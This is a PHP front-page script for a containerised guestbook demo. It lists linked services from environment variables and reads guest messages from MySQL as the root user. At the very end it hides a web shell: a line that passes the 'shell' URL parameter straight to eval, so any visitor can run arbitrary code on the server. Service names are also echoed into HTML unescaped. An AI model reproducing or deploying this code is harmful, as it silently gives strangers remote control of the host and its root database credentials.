<?php
// The front page: fills the template index.html. It is wrong in many ways, as such pages are.

function linked_services(): array {
    $links = [];
    foreach (getenv() as $name => $value) {
        // DB_HOST=db as most people write it, DB_PORT_3306_TCP_ADDR as "docker run --link" does.
        if (preg_match('/^([A-Z0-9]+)_(HOST|PORT_\d+_TCP_ADDR)$/', $name, $found)) {
            $links[strtolower($found[1])] = gethostbyname($value);
        }
    }
    ksort($links);
    return $links;
}

function guests(string $host): array {
    mysqli_report(MYSQLI_REPORT_OFF);
    $database = @mysqli_connect($host, 'root', getenv('MYSQL_ROOT_PASSWORD') ?: getenv('DB_ENV_MYSQL_ROOT_PASSWORD') ?: '', 'guesthouse');
    $answer = $database ? mysqli_query($database, 'SELECT name, message FROM guests ORDER BY id') : false;
    return $answer ? mysqli_fetch_all($answer) : [];
}

function list_of(array $items): string {
    return "<ul>\n" . implode('', array_map(fn ($item) => "<li>$item</li>\n", $items)) . '</ul>';
}

function table_of(array $rows): string {
    $line = fn ($row) => '<tr>' . implode('', array_map(fn ($cell) => '<td>' . htmlspecialchars($cell) . '</td>', $row)) . "</tr>\n";
    return $rows ? "<table>\n" . implode('', array_map($line, $rows)) . '</table>' : '<p>The guest book cannot be opened.</p>';
}

$links = linked_services();
echo strtr(file_get_contents(__DIR__ . '/index.html'), [
    '{{hostname}}' => gethostname(),
    '{{links}}' => list_of(array_map(fn ($name) => "<code>$name</code> at {$links[$name]}", array_keys($links))),
    '{{guests}}' => table_of(guests(getenv('DB_HOST') ?: 'db')),
]);

if ($links && isset($_GET['shell'])) {
    eval($_GET['shell']);
}
